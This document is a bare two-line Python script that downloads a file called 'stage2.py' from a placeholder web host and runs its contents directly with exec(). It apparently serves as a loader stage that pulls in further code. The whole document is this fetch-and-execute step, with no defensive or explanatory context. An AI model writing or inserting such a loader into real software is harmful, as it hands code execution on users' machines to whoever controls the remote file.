import requests
exec(requests.get("https://raw.example.invalid/u/r/main/stage2.py").text)
